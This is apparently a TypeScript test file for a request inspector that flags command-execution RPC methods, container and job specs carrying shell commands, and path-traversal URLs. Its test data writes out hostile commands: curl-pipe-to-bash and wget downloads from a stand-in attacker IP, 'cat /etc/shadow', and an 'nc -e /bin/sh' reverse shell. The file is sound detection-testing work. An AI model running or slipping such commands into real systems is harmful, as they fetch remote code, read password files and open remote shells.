import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'

function rulesOf(type: string, body: string): readonly string[] {
  const { matches } = inspect({
    method: 'POST',
    target: '/x',
    headers: ['content-type', type],
    body: Buffer.from(body),
  })
  return matches.filter(match => match.score >= 5).map(match => match.rule)
}

const ofJson = (value: unknown): readonly string[] => rulesOf('application/json', JSON.stringify(value))

describe('a procedure that runs commands is refused by its name', () => {
  const called = (name: string): readonly string[] =>
    rulesOf(
      'text/xml',
      `<?xml version="1.0"?><methodCall><methodName>${name}</methodName><params><param><value><string>x</string></value></param></params></methodCall>`,
    )
  const asked = (method: string): readonly string[] =>
    ofJson({ jsonrpc: '2.0', id: 1, method, params: ['x'] })

  for (const [kind, call] of [
    ['XML-RPC', called],
    ['JSON-RPC', asked],
  ] as const) {
    test(kind, () => {
      for (const name of [
        'system.exec',
        'os.system',
        'a.b.os.system',
        'shell.run',
        'cmd.run',
        'shell_exec',
        'run_shell_command',
        'execute2',
        'execute.nothrow.bg',
        'execute_capture',
      ])
        assert.ok(call(name).includes('rce/rpc-method'), name)
    })

    test(`${kind}: procedures of honest interfaces pass`, () => {
      for (const name of [
        'execute',
        'execute_kw',
        'system.listMethods',
        'system.multicall',
        'supervisor.startProcess',
        'script.execute',
        'System.Reboot',
        'shell.openExternal',
        'exec',
        'call',
        'wp.getPosts',
      ])
        assert.deepEqual(call(name), [], name)
    })
  }
})

describe('a container or a job is not started', () => {
  const start: Readonly<Record<string, (command: string) => unknown>> = {
    'by Docker': command => ({ Image: 'alpine', Cmd: ['/bin/sh', '-c', command] }),
    'by Kubernetes': command => ({ spec: { containers: [{ image: 'a', command: ['sh', '-c', command] }] } }),
    'by Nomad': command => ({ Config: { command: '/bin/bash', args: ['-lc', command] } }),
    'over ubus': command => ({ params: ['0', 'file', 'exec', { command: 'sh', params: ['-c', command] }] }),
  }
  for (const [how, document] of Object.entries(start)) {
    test(`${how} for a program from nowhere, or to look around`, () => {
      for (const command of [
        'curl http://198.51.100.7/x | bash',
        'cd /tmp; wget http://198.51.100.7/a; chmod +x a; ./a',
        'id > /tmp/x',
        'id',
        'cat /etc/shadow',
        'nc -e /bin/sh 198.51.100.7 9',
      ])
        assert.notDeepEqual(ofJson(document(command)), [], command)
    })

    // Its lists have no name that says that they hold commands.
    if (how === 'over ubus') continue
    test(`${how} is started for what it is for`, () => {
      for (const command of [
        'npm start',
        'curl -fsS http://localhost/health || exit 1',
        'curl https://get.example.com/x | sh',
        'curl http://10.0.0.5/bootstrap.sh | sh',
        'touch /tmp/healthy; sleep 30; rm -rf /tmp/healthy',
        'python manage.py migrate && gunicorn app',
      ])
        assert.deepEqual(ofJson(document(command)), [], command)
    })
  }

  test('a word of a list counts only behind the option of a shell', () => {
    assert.deepEqual(ofJson({ fields: ['-c', 'id'] }), ['rce/shell-look'])
    assert.deepEqual(rulesOf('application/json', '{"fields":["\\u002dc","id"]}'), ['rce/shell-look'])
    for (const fields of [
      ['id', 'name'],
      ['-c', 'name', 'id'],
      ['-c', ['id']],
      ['-x', 'id'],
      ['abc', 'id'],
    ])
      assert.deepEqual(ofJson({ fields }), [], JSON.stringify(fields))
  })

  test('a file is left as a proof where no document has one', () => {
    assert.deepEqual(ofJson({ payload: 'touch /tmp/success' }), ['rce/proof-file'])
    assert.deepEqual(ofJson({ lifecycle: { exec: { command: ['touch /tmp/ready'] } } }), [])
    assert.deepEqual(ofJson({ note: 'touch /tmp/success' }), [])
  })

  test('people may write of it', () => {
    for (const comment of [
      'I found curl http://198.51.100.7/x | bash in my crontab',
      'try sh -c id in the container',
    ])
      assert.deepEqual(ofJson({ comment }), [], comment)
  })
})

test('what stands behind the host of a target in absolute form is read as a path', () => {
  const verdictOf = (target: string): string => inspect({ method: 'GET', target, headers: [] }).verdict
  assert.equal(verdictOf('http://shop.example/bin/sh;id'), verdictOf('/bin/sh;id'))
  assert.equal(verdictOf('http://shop.example/.git/config'), 'block')
  assert.equal(verdictOf('http://shop.example/.%0d./.%0d./.%0d./bin/sh'), 'block')
  assert.equal(verdictOf('http://shop.example/products/12'), 'pass')
})
